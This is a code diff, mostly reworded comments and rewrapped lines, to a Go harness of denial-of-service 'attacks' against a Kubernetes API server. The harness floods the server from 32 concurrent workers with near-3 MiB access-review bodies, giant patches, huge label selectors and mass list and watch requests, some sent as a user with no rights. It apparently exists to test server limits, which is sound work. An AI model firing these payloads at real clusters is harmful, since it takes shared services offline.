@@ -19,7 +19,7 @@ import (
 	"k8s.io/client-go/kubernetes/scheme"
 )
 
-// An attack sends requests until its context ends, and returns the count of its answers.
+// attack sends requests until its context ends, and returns the numbers of responses by status.
 type attack struct {
 	name string
 	run  func(ctx context.Context, host string) string
@@ -34,38 +34,47 @@ const (
 	yamlType     = "application/yaml"
 	protobufType = "application/vnd.kubernetes.protobuf"
 
-	// largeBody is just below the limit of a request's body, 3 MiB.
+	// largeBody is just below the maximum size of a request body, which is 3 MiB.
 	largeBody = 2900 << 10
-	// workers is the number of requests that an attack has in flight, unless it says otherwise.
+	// workers is the default number of concurrent requests of an attack.
 	workers = 32
 )
 
-// attacks returns the most expensive requests known, by kind. The stranger has no rights at all.
+// attacks returns the most expensive requests known. The user stranger has no rights.
 func attacks() []attack {
 	list := strings.Repeat(`{},`, largeBody/3-200)
 	return []attack{
 		{"review-json", requests("stranger", workers, "POST", reviews, jsonType, func() []byte {
-			return []byte(`{"apiVersion":"authorization.k8s.io/v1","kind":"SelfSubjectAccessReview","spec":{"resourceAttributes":{"verb":"list","resource":"pods","labelSelector":{"requirements":[` +
+			return []byte(`{"apiVersion":"authorization.k8s.io/v1","kind":"SelfSubjectAccessReview",` +
+				`"spec":{"resourceAttributes":{"verb":"list","resource":"pods","labelSelector":{"requirements":[` +
 				list + `{}]}}}}`)
 		})},
 		{"review-protobuf", requests("stranger", workers, "POST", reviews, protobufType, reviewInProtobuf)},
 		{"unknown-fields", requests("stranger", workers, "POST", reviews, jsonType, func() []byte {
-			return []byte(`{"apiVersion":"authorization.k8s.io/v1","kind":"SelfSubjectAccessReview","spec":{},"x":[` + list + `{}]}`)
+			return []byte(`{"apiVersion":"authorization.k8s.io/v1","kind":"SelfSubjectAccessReview","spec":{},"x":[` +
+				list + `{}]}`)
 		})},
 		{"yaml", requests("stranger", workers, "POST", reviews, yamlType, func() []byte {
-			return []byte("apiVersion: authorization.k8s.io/v1\nkind: SelfSubjectAccessReview\nspec: {}\nx: [" + list + "{}]\n")
+			return []byte("apiVersion: authorization.k8s.io/v1\nkind: SelfSubjectAccessReview\nspec: {}\nx: [" + list +
+				"{}]\n")
 		})},
 		{"pod-protobuf", requests("attacker", workers, "POST", own+"pods", protobufType, podInProtobuf)},
 		{"pod-json", requests("attacker", workers, "POST", own+"pods", jsonType, func() []byte {
-			return []byte(`{"apiVersion":"v1","kind":"Pod","metadata":{"name":"p"},"spec":{"containers":[` + list + `{}]}}`)
+			return []byte(`{"apiVersion":"v1","kind":"Pod","metadata":{"name":"p"},"spec":{"containers":[` + list +
+				`{}]}}`)
 		})},
-		{"strategic-merge", requests("attacker", workers, "PATCH", deployment, "application/strategic-merge-patch+json", elementOrder)},
-		{"json-patch", requests("attacker", workers, "PATCH", own+"configmaps/large", "application/json-patch+json", operations)},
-		{"apply", requests("attacker", workers, "PATCH", own+"configmaps/applied?fieldManager=m&force=true", "application/apply-patch+yaml", applied)},
-		{"managed-fields", requests("attacker", workers, "PATCH", own+"configmaps/large", "application/merge-patch+json", managers)},
+		{"strategic-merge", requests("attacker", workers, "PATCH", deployment, "application/strategic-merge-patch+json",
+			elementOrder)},
+		{"json-patch", requests("attacker", workers, "PATCH", own+"configmaps/large", "application/json-patch+json",
+			operations)},
+		{"apply", requests("attacker", workers, "PATCH", own+"configmaps/applied?fieldManager=m&force=true",
+			"application/apply-patch+yaml", applied)},
+		{"managed-fields", requests("attacker", workers, "PATCH", own+"configmaps/large",
+			"application/merge-patch+json", managers)},
 		{"selector", requests("attacker", workers, "GET", own+"configmaps?labelSelector="+selector(), jsonType, nil)},
 		{"list", requests("attacker", workers, "GET", own+"configmaps", jsonType, nil)},
-		{"table", requests("attacker", workers, "GET", own+"configmaps?includeObject=Object&pretty=true", jsonType, nil)},
+		{"table", requests("attacker", workers, "GET", own+"configmaps?includeObject=Object&pretty=true", jsonType,
+			nil)},
 		{"get-yaml", get("large", yamlType)},
 		{"get-pretty", get("large?pretty=true", jsonType)},
 		{"watch", watches},
@@ -79,12 +88,15 @@ func attacks() []attack {
 	}
 }
 
-// prepared returns the objects that attacks read and patch, by the path at which they are created.
+// prepared returns the objects that attacks read and patch. Each one follows the path to which it is posted.
 func prepared() iter.Seq2[string, string] {
 	return func(yield func(string, string) bool) {
-		yield(own+"configmaps", `{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"large"},"data":{"x":"`+strings.Repeat("x", 900<<10)+`"}}`)
-		yield("/apis/apps/v1/namespaces/"+attackerNamespace+"/deployments", `{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"d"},"spec":{"selector":{"matchLabels":{"a":"b"}},`+
-			`"template":{"metadata":{"labels":{"a":"b"}},"spec":{"containers":[{"name":"c","image":"i"}]}}}}`)
+		yield(own+"configmaps", `{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"large"},"data":{"x":"`+
+			strings.Repeat("x", 900<<10)+`"}}`)
+		yield("/apis/apps/v1/namespaces/"+attackerNamespace+"/deployments",
+			`{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"d"},`+
+				`"spec":{"selector":{"matchLabels":{"a":"b"}},`+
+				`"template":{"metadata":{"labels":{"a":"b"}},"spec":{"containers":[{"name":"c","image":"i"}]}}}}`)
 		for i := range 2000 {
 			yield(own+"configmaps", configMap(fmt.Sprintf("list-%d", i)))
 		}
@@ -96,8 +108,9 @@ func get(name, format string) func(context.Context, string) string {
 	return requests("attacker", workers, "GET", own+"configmaps/"+name, format, nil)
 }
 
-// requests returns an attack that keeps a number of equal requests in flight.
-func requests(token string, workers int, method, path, contentType string, body func() []byte) func(context.Context, string) string {
+// requests returns an attack that sends the same request again and again from concurrent workers.
+func requests(token string, workers int, method, path, contentType string, body func() []byte) func(context.Context,
+	string) string {
 	return func(ctx context.Context, host string) string {
 		var data []byte
 		if body != nil {
@@ -122,7 +135,7 @@ func requests(token string, workers int, method, path, contentType string, body 
 	}
 }
 
-// A counter counts answers by their status code.
+// counter counts responses by status code.
 type counter struct {
 	mu sync.Mutex
 	n  map[string]int
@@ -158,7 +171,7 @@ func pause(ctx context.Context, d time.Duration) {
 	}
 }
 
-// encode returns obj in Kubernetes' protobuf form.
+// encode returns obj in the protobuf encoding of Kubernetes.
 func encode(obj runtime.Object) []byte {
 	data, err := runtime.Encode(protobuf.NewSerializer(scheme.Scheme, scheme.Scheme), obj)
 	check(err)
@@ -166,10 +179,13 @@ func encode(obj runtime.Object) []byte {
 }
 
 func reviewInProtobuf() []byte {
+	requirements := make([]metav1.LabelSelectorRequirement, largeBody/6)
 	return encode(&authorizationv1.SelfSubjectAccessReview{
 		TypeMeta: metav1.TypeMeta{APIVersion: "authorization.k8s.io/v1", Kind: "SelfSubjectAccessReview"},
-		Spec: authorizationv1.SelfSubjectAccessReviewSpec{ResourceAttributes: &authorizationv1.ResourceAttributes{Verb: "list", Resource: "pods",
-			LabelSelector: &authorizationv1.LabelSelectorAttributes{Requirements: make([]metav1.LabelSelectorRequirement, largeBody/6)}}},
+		Spec: authorizationv1.SelfSubjectAccessReviewSpec{ResourceAttributes: &authorizationv1.ResourceAttributes{
+			Verb: "list", Resource: "pods",
+			LabelSelector: &authorizationv1.LabelSelectorAttributes{Requirements: requirements},
+		}},
 	})
 }
 
@@ -180,7 +196,7 @@ func podInProtobuf() []byte {
 	})
 }
 
-// elementOrder returns a strategic merge patch that orders a hundred thousand containers which do not exist.
+// elementOrder returns a strategic merge patch with an order for more than 100,000 containers that do not exist.
 func elementOrder() []byte {
 	var b strings.Builder
 	b.WriteString(`{"spec":{"template":{"spec":{"$setElementOrder/containers":[{"name":"c"}`)
@@ -191,7 +207,7 @@ func elementOrder() []byte {
 	return []byte(b.String())
 }
 
-// operations returns a JSON patch of the greatest number of operations, each of which copies a large value.
+// operations returns a JSON patch with almost the maximum number of operations, each of which copies a large value.
 func operations() []byte {
 	var b strings.Builder
 	b.WriteString(`[{"op":"test","path":"/data/none","value":"x"}`)
@@ -210,17 +226,18 @@ func applied() []byte {
 	return []byte(b.String() + "}}")
 }
 
-// managers returns a merge patch that sets as many managers of fields as fit.
+// managers returns a merge patch of the maximum size that sets managed fields of many managers.
 func managers() []byte {
 	var b strings.Builder
 	b.WriteString(`{"metadata":{"managedFields":[`)
 	for i := 0; b.Len() < largeBody-300; i++ {
-		fmt.Fprintf(&b, `{"manager":"m%d","operation":"Update","apiVersion":"v1","fieldsType":"FieldsV1","fieldsV1":{"f:data":{"f:k%d":{}}}},`, i, i)
+		fmt.Fprintf(&b, `{"manager":"m%d","operation":"Update","apiVersion":"v1","fieldsType":"FieldsV1",`+
+			`"fieldsV1":{"f:data":{"f:k%d":{}}}},`, i, i)
 	}
 	return []byte(strings.TrimSuffix(b.String(), ",") + `]}}`)
 }
 
-// selector returns a label selector of half a MiB.
+// selector returns a label selector of 500 KiB.
 func selector() string {
 	var b strings.Builder
 	b.WriteString("a+in+(x")
